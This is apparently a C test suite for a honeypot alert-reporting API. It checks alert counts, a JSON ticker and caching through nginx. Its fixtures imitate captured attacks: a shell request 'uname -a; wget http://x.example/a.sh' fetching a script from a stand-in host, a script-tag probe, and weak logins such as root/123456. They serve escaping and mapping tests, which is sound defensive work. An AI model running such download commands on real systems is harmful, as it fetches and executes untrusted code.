/* test_foundation.c: the first endpoints and the cross-cutting HTTP behaviour, through nginx against real data. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>
#include <curl/curl.h>

#include "harness.h"
#include "timeutil.h"

#define HTTP_XML "text/xml; charset=utf-8"
#define HTTP_JSON "application/json"
#define HTML "text/html; charset=utf-8"
#define HOUR 3600L
#define XML_DECL "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"

/* ---- counts: community alerts 30 s, 5.5 min, 2 h and 30 h old, private ones 40 s and 4 h old ---- */

static const struct alert count_alerts[] = {
    /* clang-format off */
    {.id = "c-30s", .age = 30, .peer_type = "Webpage"},
    {.id = "c-5m", .age = 330, .peer_type = "SSH/console(cowrie)"},
    {.id = "c-2h", .age = 2 * HOUR, .peer_type = "Webpage", .extra = "{\"hostname\":\"h2\",\"vulnid\":\"CVE-2017-0144\"}"},
    {.id = "c-30h", .age = 30 * HOUR, .peer_type = "Network(honeytrap)"},
    {.id = "p-40s", .age = 40, .peer_type = "Passwords(heralding)", .private_domain = true},
    {.id = "p-4h", .age = 4 * HOUR, .peer_type = "Webpage", .private_domain = true},
    /* clang-format on */
};
#define COUNT_ALERTS ARRAY_LEN(count_alerts)

static time_t count_loaded; /* the `now` the ages are relative to */

static void load_count_alerts(void)
{
    count_loaded = load_alert_list(count_alerts, COUNT_ALERTS);
}

/* ci as the endpoints read it: absent or 1 community, 0 private, -1 both. */
static bool in_domain(const struct alert *a, const char *ci)
{
    if (ci && strcmp(ci, "-1") == 0)
        return true;
    return a->private_domain == (ci && strcmp(ci, "0") == 0);
}

/* Alerts of domain ci received at or after `since`, counted from the fixture. */
static long long expected_since(const char *ci, time_t since)
{
    long long n = 0;

    for (size_t i = 0; i < COUNT_ALERTS; i++)
        if (in_domain(&count_alerts[i], ci) && count_loaded - count_alerts[i].age >= since)
            n++;
    return n;
}

/* The expected count of ?time=<window>: the last N minutes, or since 00:00 UTC for "day". */
static long long expected_count(const char *ci, const char *window)
{
    time_t now = time(NULL);

    if (strcmp(window, "day") == 0)
        return expected_since(ci, utc_day_start(now));
    return expected_since(ci, now - atol(window) * 60);
}

static void count_path(char *out, size_t size, const char *route, const char *window, const char *ci,
                       const char *out_param)
{
    snprintf(out, size, "/alert/%s?time=%s%s%s%s%s", route, window, ci ? "&ci=" : "", ci ? ci : "",
             out_param ? "&out=" : "", out_param ? out_param : "");
}

static const char *const windows[] = {"1", "10", "180", "2880", "day"};
static const char *const cis[] = {NULL, "1", "0", "-1"};

START_TEST(alerts_count_windows_and_domains)
{
    for (size_t w = 0; w < ARRAY_LEN(windows); w++) {
        for (size_t c = 0; c < ARRAY_LEN(cis); c++) {
            char path[256], xml[256], json[64];
            long long n = expected_count(cis[c], windows[w]);

            snprintf(xml, sizeof xml,
                     XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>%lld</AlertCount>\n</EWSSimpleIPInfo>\n", n);
            snprintf(json, sizeof json, "{\"AlertCount\":%lld}\n", n);
            count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], NULL);
            http_get_expect(path, 200, HTTP_XML, xml);
            count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], "xml");
            http_get_expect(path, 200, HTTP_XML, xml);
            count_path(path, sizeof path, "retrieveAlertsCount", windows[w], cis[c], "json");
            http_get_expect(path, 200, HTTP_JSON, json);
        }
    }
}
END_TEST

/* The windows the brief names, as fixed numbers, so a wrong expectation helper cannot hide a bug. */
START_TEST(alerts_count_fixed_numbers)
{
    http_get_expect("/alert/retrieveAlertsCount?time=1&out=json", 200, HTTP_JSON, "{\"AlertCount\":1}\n");
    http_get_expect("/alert/retrieveAlertsCount?time=10&out=json", 200, HTTP_JSON, "{\"AlertCount\":2}\n");
    http_get_expect("/alert/retrieveAlertsCount?time=180&out=json", 200, HTTP_JSON, "{\"AlertCount\":3}\n");
    http_get_expect("/alert/retrieveAlertsCount?time=2880&out=json", 200, HTTP_JSON, "{\"AlertCount\":4}\n");
    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=0&out=json", 200, HTTP_JSON,
                    "{\"AlertCount\":2}\n");
    http_get_expect("/alert/retrieveAlertsCount?time=2880&ci=-1&out=json", 200, HTTP_JSON,
                    "{\"AlertCount\":6}\n");
}
END_TEST

START_TEST(alerts_count_with_type)
{
    http_get_expect(
        "/alert/retrieveAlertsCountWithType?time=2880", 200, HTTP_JSON,
        "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"SSH/console(cowrie)\":1,\"Webpage\":2},"
        "\"AlertCountTotal\":4}\n");
    http_get_expect("/alert/retrieveAlertsCountWithType?time=2880&ci=-1", 200, HTTP_JSON,
                    "{\"AlertCountPerType\":{\"Network(honeytrap)\":1,\"Passwords(heralding)\":1,"
                    "\"SSH/console(cowrie)\":1,\"Webpage\":3},\"AlertCountTotal\":6}\n");
    http_get_expect("/alert/retrieveAlertsCountWithType?time=10&ci=0", 200, HTTP_JSON,
                    "{\"AlertCountPerType\":{\"Passwords(heralding)\":1},\"AlertCountTotal\":1}\n");
    http_get_expect(
        "/alert/retrieveAlertsCountWithType?time=10", 200, HTTP_JSON,
        "{\"AlertCountPerType\":{\"SSH/console(cowrie)\":1,\"Webpage\":1},\"AlertCountTotal\":2}\n");
}
END_TEST

START_TEST(alert_stats)
{
    for (size_t c = 0; c < ARRAY_LEN(cis); c++) {
        time_t now = time(NULL);
        char path[64], body[256];

        snprintf(path, sizeof path, "/alert/retrieveAlertStats%s%s", cis[c] ? "?ci=" : "",
                 cis[c] ? cis[c] : "");
        snprintf(body, sizeof body,
                 "{\"AlertsLast24Hours\":%lld,\"AlertsLast5Minutes\":%lld,\"AlertsLastHour\":%lld,"
                 "\"AlertsLastMinute\":%lld}\n",
                 expected_since(cis[c], now - 1440 * 60), expected_since(cis[c], now - 5 * 60),
                 expected_since(cis[c], now - 60 * 60), expected_since(cis[c], now - 60));
        http_get_expect(path, 200, HTTP_JSON, body);
    }
    http_get_expect(
        "/alert/retrieveAlertStats", 200, HTTP_JSON,
        "{\"AlertsLast24Hours\":3,\"AlertsLast5Minutes\":1,\"AlertsLastHour\":2,\"AlertsLastMinute\":1}\n");
}
END_TEST

/* ---- the ticker: 40 alerts a minute to 6.5 hours old, every fourth one private ---- */

#define TICKER_ALERTS 40
#define TICKER_SIZE 35

static struct alert ticker[TICKER_ALERTS];
static char ticker_ids[TICKER_ALERTS][8];
static time_t ticker_loaded;

/* The first ones carry each way the ticker maps a field; the rest are plain web alerts. */
static const struct alert ticker_specials[] = {
    /* clang-format off */
    {.request = "/wp-login.php?x=%3Cscript%3E"},
    {.peer_type = "SSH/console(cowrie)", .request = "\nuname -a\nwget http://x.example/a.sh", .country = "CN",
     .country_name = "China", .location = "34.7725 , 113.7266"},
    {.peer_type = "Passwords(heralding)", .request = "", .username = "admin", .password = "pa%20ss",
     .country = "US", .country_name = "United States", .location = "37.751 , -97.822",
     .location_dest = "0.0 , 0.0"},
    {.peer_type = "Network(honeytrap)", .request = "Attack on port 445/tcp", .country = "PIR",
     .country_name = "IANA Private IP Range", .location = "0.0 , 0.0"},
    {.peer_type = "SSH/console(cowrie)", .request = "", .username = "root", .password = "123456", .login = "Success"},
    {.peer_type = "Passwords(heralding)", .request = ""},
    /* clang-format on */
};

static void load_ticker(void)
{
    for (int i = 0; i < TICKER_ALERTS; i++) {
        if ((size_t)i < ARRAY_LEN(ticker_specials))
            ticker[i] = ticker_specials[i];
        snprintf(ticker_ids[i], sizeof ticker_ids[i], "t%02d", i);
        ticker[i].id = ticker_ids[i];
        ticker[i].age = 60 + i * 600L;
        ticker[i].private_domain = i % 4 == 2;
    }
    ticker_loaded = load_alert_list(ticker, TICKER_ALERTS);
}

/* The reply's alerts array (checked to be one), parsed into *doc. */
static const cJSON *ticker_reply(const char *path, cJSON **doc)
{
    struct http_reply r;
    const cJSON *alerts;

    http_get(path, &r);
    http_expect(&r, 200, HTTP_JSON, NULL);
    ck_assert_msg(strncmp(r.body, "{\"alerts\":[", 11) == 0 && r.len > 3 &&
                      strcmp(r.body + r.len - 3, "]}\n") == 0,
                  "%s: %s", path, r.body);
    *doc = cJSON_Parse(r.body);
    http_reply_free(&r);
    alerts = cJSON_GetObjectItemCaseSensitive(*doc, "alerts");
    ck_assert(cJSON_IsArray(alerts));
    return alerts;
}

/* The ids, newest first, that a ticker request for domain ci lists. */
static void expect_ticker_ids(const char *path, const char *ci)
{
    cJSON *doc;
    const cJSON *alerts = ticker_reply(path, &doc);
    const cJSON *item = alerts->child;
    int listed = 0;

    for (int i = 0; i < TICKER_ALERTS && listed < TICKER_SIZE; i++) {
        const cJSON *id;

        if (!in_domain(&ticker[i], ci))
            continue;
        ck_assert_msg(item != NULL, "%s: only %d alerts", path, listed);
        id = cJSON_GetObjectItemCaseSensitive(item, "id");
        ck_assert_msg(cJSON_IsString(id) && strcmp(id->valuestring, ticker_ids[i]) == 0,
                      "%s: alert %d is %s, expected %s", path, listed,
                      cJSON_IsString(id) ? id->valuestring : "?", ticker_ids[i]);
        ck_assert(cJSON_IsBool(cJSON_GetObjectItemCaseSensitive(item, "clientDomain")));
        ck_assert(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(item, "clientDomain")) ==
                  !ticker[i].private_domain);
        item = item->next;
        listed++;
    }
    ck_assert_msg(item == NULL, "%s: more alerts than expected (%d)", path, cJSON_GetArraySize(alerts));
    cJSON_Delete(doc);
}

START_TEST(ticker_newest_in_order)
{
    expect_ticker_ids("/alert/retrieveAlertsJson?ci=-1", "-1");
    expect_ticker_ids("/alert/retrieveAlertsJson", NULL);
    expect_ticker_ids("/alert/retrieveAlertsJson?ci=1&topx=5", "1");
    expect_ticker_ids("/alert/retrieveAlertsJson?ci=0", "0");
}
END_TEST

/* The exact text of each special alert, field for field as the original mapped it. */
START_TEST(ticker_field_mapping)
{
    static const char *const expected[] = {
        "{\"analyzerType\":\"Webpage\",\"clientDomain\":true,\"country\":\"NL\",\"countryName\":\"Netherlands\","
        "\"dateCreated\":\"%s\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\",\"id\":\"t00\","
        "\"requestString\":\"/wp-login.php?x=&lt;script&gt;\",\"sourceLat\":\"52.5\",\"sourceLng\":\"13.4\","
        "\"targetCountry\":\"DE\"}",
        "{\"analyzerType\":\"SSH/console(cowrie)\",\"clientDomain\":true,\"country\":\"CN\",\"countryName\":\"China\","
        "\"dateCreated\":\"%s\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\",\"id\":\"t01\","
        "\"requestString\":\"uname -a; wget http://x.example/a.sh\",\"sourceLat\":\"34.7725\","
        "\"sourceLng\":\"113.7266\",\"targetCountry\":\"DE\"}",
        "{\"analyzerType\":\"Passwords(heralding)\",\"clientDomain\":false,\"country\":\"US\","
        "\"countryName\":\"United States\",\"dateCreated\":\"%s\",\"destLat\":\"50.708021\",\"destLng\":\"7.129191\","
        "\"id\":\"t02\",\"requestString\":\"Username: &quot;admin&quot; | Password: &quot;pa ss&quot;\","
        "\"sourceLat\":\"37.751\",\"sourceLng\":\"-97.822\",\"targetCountry\":\"DE\"}",
        "{\"analyzerType\":\"Network(honeytrap)\",\"clientDomain\":true,\"country\":\"PIR\","
        "\"countryName\":\"IANA Private IP Range\",\"dateCreated\":\"%s\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\","
        "\"id\":\"t03\",\"requestString\":\"Attack on port 445/tcp\",\"sourceLat\":\"50.708021\","
        "\"sourceLng\":\"7.129191\",\"targetCountry\":\"DE\"}",
        "{\"analyzerType\":\"SSH/console(cowrie)\",\"clientDomain\":true,\"country\":\"NL\",\"countryName\":\"Netherlands\","
        "\"dateCreated\":\"%s\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\",\"id\":\"t04\","
        "\"requestString\":\"Username: &quot;root&quot; | Password: &quot;123456&quot; | Status: Success\","
        "\"sourceLat\":\"52.5\",\"sourceLng\":\"13.4\",\"targetCountry\":\"DE\"}",
        "{\"analyzerType\":\"Passwords(heralding)\",\"clientDomain\":true,\"country\":\"NL\",\"countryName\":\"Netherlands\","
        "\"dateCreated\":\"%s\",\"destLat\":\"51.2993\",\"destLng\":\"9.491\",\"id\":\"t05\","
        "\"requestString\":\"Username: &lt;none&gt; | Password: &lt;none&gt;\","
        "\"sourceLat\":\"52.5\",\"sourceLng\":\"13.4\",\"targetCountry\":\"DE\"}",
    };
    cJSON *doc;
    const cJSON *alerts = ticker_reply("/alert/retrieveAlertsJson?ci=-1", &doc);

    for (int i = 0; i < (int)ARRAY_LEN(expected); i++) {
        char stamp[20], want[1024];
        char *got = cJSON_PrintUnformatted(cJSON_GetArrayItem(alerts, i));

        alert_time(ticker_loaded, ticker[i].age, stamp);
        snprintf(want, sizeof want, expected[i], stamp);
        ck_assert_msg(got && strcmp(got, want) == 0, "alert %d:\n%s\nexpected\n%s", i, got, want);
        free(got);
    }
    cJSON_Delete(doc);
}
END_TEST

/* ---- an empty engine ---- */

START_TEST(no_data_is_not_an_error)
{
    http_get_expect("/alert/retrieveAlertsCount?time=10", 200, HTTP_XML,
                    XML_DECL "<EWSSimpleIPInfo>\n  <AlertCount>0</AlertCount>\n</EWSSimpleIPInfo>\n");
    http_get_expect("/alert/retrieveAlertsCountWithType?time=day", 200, HTTP_JSON,
                    "{\"AlertCountPerType\":{},\"AlertCountTotal\":0}\n");
    http_get_expect(
        "/alert/retrieveAlertStats", 200, HTTP_JSON,
        "{\"AlertsLast24Hours\":0,\"AlertsLast5Minutes\":0,\"AlertsLastHour\":0,\"AlertsLastMinute\":0}\n");
    http_get_expect("/alert/retrieveAlertsJson", 200, HTTP_JSON, "{\"alerts\":[]}\n");
}
END_TEST

/* ---- the response cache ---- */

static void load_one_alert(void)
{
    LOAD_ALERTS({.id = "cached", .age = 60});
}

/* GETs path past nginx's cache and returns how many engine queries it caused: 0 when memcached answered. */
static long long searches_of(const char *path, const char *body)
{
    long long before = es_search_total();

    harness_empty_nginx_cache();
    http_get_expect(path, 200, HTTP_JSON, body);
    return es_search_total() - before;
}

START_TEST(cache_skips_the_engine)
{
    ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=10&out=json", "{\"AlertCount\":1}\n"), 0);
    ck_assert_int_eq(searches_of("/alert/retrieveAlertsCount?time=10&out=json", "{\"AlertCount\":1}\n"), 0);
    /* an equivalent spelling is the same cache entry */
    ck_assert_int_eq(searches_of("/alert/retrieveAlertsCount?out=json&time=010&ci=1", "{\"AlertCount\":1}\n"),
                     0);
    ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=11&out=json", "{\"AlertCount\":1}\n"), 0);
    ck_assert_int_gt(searches_of("/alert/retrieveAlertsCount?time=10&out=json&ci=0", "{\"AlertCount\":0}\n"),
                     0);
    ck_assert_int_gt(searches_of("/alert/retrieveAlertStats", NULL), 0);
    ck_assert_int_eq(searches_of("/alert/retrieveAlertStats", NULL), 0);
}
END_TEST

int main(void)
{
    Suite *s = suite_create("counts_and_ticker");

    HARNESS_CASE(s, "counts", load_count_alerts, alerts_count_fixed_numbers, alerts_count_windows_and_domains,
                 alerts_count_with_type, alert_stats);
    HARNESS_CASE(s, "ticker", load_ticker, ticker_newest_in_order, ticker_field_mapping);
    HARNESS_CASE(s, "empty", NULL, no_data_is_not_an_error);
    HARNESS_CASE(s, "cache", load_one_alert, cache_skips_the_engine);
    return harness_run(s);
}
